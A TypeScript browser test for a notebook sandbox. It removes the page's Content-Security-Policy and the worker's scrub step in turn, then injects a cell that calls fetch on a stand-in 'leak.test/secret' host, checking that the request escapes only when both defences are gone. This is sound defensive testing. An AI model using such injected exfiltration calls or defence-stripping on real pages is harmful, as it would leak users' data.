import {readFileSync} from "node:fs";
import {resolve} from "node:path";
import {build} from "esbuild";
import {expect, it} from "vitest";
import {chapter, open} from "./browser.ts";

// A lock that is never tried may be none: without it, a hostile cell must get through.

/** Returns what `fetch` in a cell sends, on a page without some of its defences. */
async function requestsOf({policy, scrub}: {policy: boolean; scrub: boolean}): Promise<string[]> {
  const {page} = await open("");
  const requests: string[] = [];
  page.context().on("request", (request) => {
    if (request.url().includes("leak.test")) requests.push(request.url());
  });
  await page.context().route("**/leak.test/**", (route) => route.abort());
  const withoutPolicy = (html: string) =>
    html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/i, "");
  if (!policy) {
    for (const pattern of ["**/chapters/**", "**/sandbox/frame.*"]) {
      await page.route(pattern, async (route) => {
        const response = await route.fetch();
        await route.fulfill({response, body: withoutPolicy(await response.text())});
      });
    }
  }
  if (!scrub) {
    const body = await buildWithoutScrub();
    await page.route("**/sandbox/worker.*", (route) => route.fulfill({body}));
  }
  await page.goto(`${page.url()}${chapter}`);
  await page.evaluate(() =>
    (document.querySelector("#cell-weights-sums") as any).edit(
      'await globalThis["fetch"]("http://leak.test/secret", {mode: "no-cors"})'
    )
  );
  const output = page.locator("#cell-weights-sums .cell-output");
  await expect.poll(() => output.innerText(), {timeout: 10_000}).toMatch(/Error|fetch/);
  await page.context().close();
  return requests;
}

async function buildWithoutScrub(): Promise<string> {
  const {outputFiles} = await build({
    entryPoints: [resolve("src/notebook/sandbox/worker.ts")],
    inject: [resolve("src/notebook/sandbox/keptDate.ts")],
    bundle: true,
    format: "iife",
    target: "es2022",
    write: false,
    plugins: [
      {
        name: "without-scrub",
        setup: ({onLoad}) =>
          onLoad({filter: /scrub\.ts$/}, () => ({contents: "export const scrub = () => {};"}))
      }
    ]
  });
  return outputFiles[0].text;
}

it.each([
  [{policy: true, scrub: true}, 0],
  [{policy: false, scrub: true}, 0],
  [{policy: true, scrub: false}, 0],
  [{policy: false, scrub: false}, 1]
])("with %j, a cell that fetches gets out %i times", async (defences, count) => {
  expect(await requestsOf(defences)).toHaveLength(count);
});

it("the policy of every page with cells is the one that is tried", () => {
  const html = readFileSync("dist/chapters/08-softmax/index.html", "utf8");
  expect(html).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src 'none'/);
});
